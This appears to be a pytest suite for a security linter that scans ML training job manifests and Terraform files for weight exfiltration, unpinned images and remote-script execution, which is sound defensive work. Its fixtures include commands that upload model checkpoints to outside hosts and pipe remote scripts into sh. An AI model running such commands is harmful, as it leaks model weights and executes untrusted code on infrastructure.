"""What people would complain about, each as a test: false alarms that must not come back.

Rows of the design's table of false-positive guards for uploads, images and scripts, and
what the switch `roots complete` changes.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from mlsec_lint.finding import Verdict
from mlsec_lint.rules.baseline import read_baseline
from mlsec_lint.rules.config import config_of
from mlsec_lint.rules.grammar import Policies
from mlsec_lint.rules.read import read_policies
from mlsec_lint.scan import scan

POLICIES = Path(__file__).resolve().parents[2] / "policies"
RULES = {rule.id: rule for rule in read_policies([POLICIES])[0].rules}
IMAGE = "registry.lab.example/train@sha256:" + "a" * 64


def verdicts(folder, rule, files, level="SL3"):
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    config, wrong = config_of(folder)
    assert not wrong
    baseline, errors = read_baseline(level, [POLICIES])
    assert baseline is not None, errors
    result = scan(
        str(folder), config=config, baseline=baseline, policies=Policies((RULES[rule],))
    )
    return [finding.verdict for finding in result.findings]


def job(script, image=IMAGE, gpu=True):
    lines = "\n".join(f"              {line}" for line in script.splitlines())
    limits = "\n          resources: {limits: {nvidia.com/gpu: 1}}" if gpu else ""
    return f"""apiVersion: batch/v1
kind: Job
metadata: {{name: sft}}
spec:
  template:
    spec:
      containers:
        - name: trainer
          image: {image}
          command: [bash, -c]
          args:
            - |
{lines}{limits}
"""


BUCKET = 'resource "aws_s3_bucket" "w" {\n  bucket = "lab-weights"\n}\n'
TRAIN = "torchrun train.py --output_dir /ckpt --num_train_epochs 3\n"


# -- uploads --------------------------------------------------------------------

UPLOAD = "egress-upload-command"


def test_a_bucket_of_the_scan_as_destination_passes(tmp_path):
    script = TRAIN + "aws s3 sync /ckpt s3://lab-weights/run"
    assert verdicts(tmp_path, UPLOAD, {"a.yaml": job(script), "m.tf": BUCKET}) == []


@pytest.mark.parametrize(
    "host", ["localhost:9000", "127.0.0.1", "[::1]:80", "minio.x.svc"]
)
def test_an_upload_to_the_machine_or_cluster_passes(tmp_path, host):
    script = TRAIN + f"curl -T /ckpt/m.safetensors http://{host}/in"
    assert verdicts(tmp_path, UPLOAD, {"a.yaml": job(script)}) == []


def test_comments_and_here_documents_are_skipped(tmp_path):
    line = "curl -T /ckpt/m.safetensors https://drop.example.org/in"
    script = TRAIN + f"# {line}\ncat > /tmp/x <<'E'\n{line}\nE\necho '{line}'"
    assert verdicts(tmp_path, UPLOAD, {"a.yaml": job(script)}) == []


def test_the_same_command_outside_of_a_comment_fails(tmp_path):
    script = TRAIN + "curl -T /ckpt/m.safetensors https://drop.example.org/in"
    assert verdicts(tmp_path, UPLOAD, {"a.yaml": job(script)}) == [Verdict.FAIL]


@pytest.mark.parametrize(
    "line",
    [
        'scp /ckpt/m "$WHERE:/in"',
        "rclone copy /ckpt remote:in",
        "aws s3 cp /ckpt s3://elsewhere/x",
        'curl -T /ckpt/m "https://$HOST/in"',
    ],
)
def test_a_destination_that_nobody_can_tell_is_undecided(tmp_path, line):
    assert verdicts(tmp_path, UPLOAD, {"a.yaml": job(TRAIN + line)}) == [
        Verdict.UNKNOWN
    ]


def test_complete_roots_turn_an_undeclared_bucket_into_a_violation(tmp_path):
    script = TRAIN + "aws s3 cp /ckpt s3://elsewhere/x"
    files = {"a.yaml": job(script), ".mlsec-lint.yaml": "roots complete: true\n"}
    assert verdicts(tmp_path, UPLOAD, files) == [Verdict.FAIL]


def test_complete_roots_say_nothing_of_a_name_that_is_not_known(tmp_path):
    script = TRAIN + 'aws s3 cp /ckpt "s3://$BUCKET/x"'
    files = {"a.yaml": job(script), ".mlsec-lint.yaml": "roots complete: true\n"}
    assert verdicts(tmp_path, UPLOAD, files) == [Verdict.UNKNOWN]


def test_uploads_of_what_has_to_do_with_no_weights_are_left_alone(tmp_path):
    script = "curl -T /tmp/report.txt https://drop.example.org/in"
    assert verdicts(tmp_path, UPLOAD, {"a.yaml": job(script, gpu=False)}) == []


# -- foreign destinations -------------------------------------------------------

FOREIGN = "egress-foreign-destination"
CONFIG = (
    "model_name_or_path: /m\noutput_dir: {}\nnum_train_epochs: 1\nlearning_rate: 1\n"
)


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        ("", [Verdict.UNKNOWN]),
        ("roots complete: false\n", [Verdict.UNKNOWN]),
        ("roots complete: true\n", [Verdict.FAIL]),
        ("roots complete: true\nlists: {lab-stores: ['s3://else*']}\n", []),
        ("lists: {lab-stores: ['s3://elsewhere']}\n", []),
    ],
)
def test_not_declared_here(tmp_path, config, expected):
    files = {
        "sft.yaml": CONFIG.format("s3://elsewhere/run"),
        ".mlsec-lint.yaml": config,
    }
    assert verdicts(tmp_path, FOREIGN, files) == expected


@pytest.mark.parametrize("place", ["/ckpt/run", "./out", "s3://lab-weights/run"])
def test_local_paths_and_declared_buckets_are_no_foreign_destination(tmp_path, place):
    files = {"sft.yaml": CONFIG.format(place), "m.tf": BUCKET}
    files[".mlsec-lint.yaml"] = "roots complete: true\n"
    assert verdicts(tmp_path, FOREIGN, files) == []


# -- images ---------------------------------------------------------------------

DIGEST = "integrity-image-digest"


def test_an_image_that_kustomize_pins_later_is_judged_as_rendered(tmp_path):
    overlay = "resources: [job.yaml]\nimages:\n  - name: lab/train\n    digest: sha256:"
    files = {
        "job.yaml": job(TRAIN, image="lab/train:v1"),
        "kustomization.yaml": overlay + "a" * 64 + "\n",
    }
    assert verdicts(tmp_path, DIGEST, files) == []


def test_an_image_that_a_chart_pins_by_its_values_is_judged_as_rendered(tmp_path):
    files = {
        "Chart.yaml": "apiVersion: v2\nname: train\nversion: 1.0.0\n",
        "values.yaml": f"digest: sha256:{'a' * 64}\n",
        "templates/job.yaml": job(TRAIN, image='"lab/train@{{ .Values.digest }}"'),
    }
    assert verdicts(tmp_path, DIGEST, files) == []


# -- scripts and packages -------------------------------------------------------


def test_the_container_toolkit_s_own_daemons_may_fetch(tmp_path):
    """Device plugins and drivers are host infrastructure: no weight job."""
    text = job("curl https://a.io/x | sh").replace("kind: Job", "kind: DaemonSet")
    text = text.replace("batch/v1", "apps/v1").replace(
        "name: sft", "name: nvidia-driver-daemonset"
    )
    text = text.replace(IMAGE, "nvcr.io/nvidia/driver:550")
    assert verdicts(tmp_path, "integrity-remote-script", {"a.yaml": text}) == []


def test_a_variable_with_both_values_fails_only_for_the_bad_one(tmp_path):
    files = {
        "m.tf": 'variable "p" {\n  type = string\n}\n'
        'resource "aws_instance" "t" {\n  instance_type = "p5.48xlarge"\n'
        '  user_data = "#!/bin/bash\\ncurl ${var.p} | sh\\n"\n}\n',
    }
    assert verdicts(tmp_path, "integrity-remote-script", files) == [Verdict.UNKNOWN]


def test_a_version_of_latest_is_undecided_and_never_clean(tmp_path):
    text = job(TRAIN, image="vllm/vllm-openai:latest").replace(
        "command: [bash, -c]", ""
    )
    text = text.replace("          args:\n", "          workingDir: /\n").split(
        "            - |"
    )[0]
    found = verdicts(tmp_path, "integrity-ml-server-version", {"a.yaml": text})
    assert found == [Verdict.UNKNOWN]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("/benchmarks/ @lab/infra", []),
        ("benchmarks/* @lab/infra", []),
        ("/docs/ @lab/writers", [Verdict.FAIL]),
        ("/bench/ @lab/writers", [Verdict.FAIL]),
        ("/benchmarks/", [Verdict.FAIL]),
    ],
)
def test_owners_of_a_folder_with_terraform_own_infrastructure(tmp_path, line, expected):
    files = {
        "CODEOWNERS": f"# comment\n{line}\n",
        "benchmarks/gke/main.tf": 'resource "aws_s3_bucket" "model_weights" {\n'
        '  bucket = "lab-model-weights"\n}\n',
    }
    assert verdicts(tmp_path, "integrity-deploy-approval", files) == expected


def test_one_unchecked_download_is_one_finding(tmp_path):
    line = "wget --no-check-certificate https://files.example/a/model.safetensors\n"
    files = {"job.yaml": job(line + TRAIN)}
    assert verdicts(tmp_path, "integrity-insecure-transport", files) == [Verdict.FAIL]


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("message-dumper.default", []),
        ("s3-service.kserve", []),
        ("minio.ml-platform", []),
        ("models.team7", []),
        ("minio", []),
        ("models.example.com", [Verdict.FAIL]),
        ("models.ai", [Verdict.FAIL]),
        ("minio.default.evil", [Verdict.FAIL]),
        ("models.xn--p1ai", [Verdict.FAIL]),
    ],
)
def test_a_service_of_the_cluster_is_no_foreign_host(tmp_path, host, expected):
    line = f"wget http://{host}/a/model.safetensors\n"
    files = {"job.yaml": job(line + TRAIN)}
    assert verdicts(tmp_path, "integrity-insecure-transport", files) == expected
